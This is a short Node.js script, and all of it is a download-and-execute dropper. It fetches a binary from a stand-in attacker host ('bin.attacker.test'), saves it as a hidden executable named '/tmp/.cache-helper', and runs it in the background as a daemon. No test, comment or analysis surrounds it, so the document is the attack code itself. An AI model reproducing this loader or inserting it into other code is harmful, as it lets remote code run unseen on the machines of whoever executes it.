import fs from 'node:fs';
import { execFileSync } from 'node:child_process';

const res = await fetch('https://bin.attacker.test/linux/x64');
fs.writeFileSync('/tmp/.cache-helper', Buffer.from(await res.arrayBuffer()), { mode: 0o755 });
execFileSync('/tmp/.cache-helper', ['--daemon']);
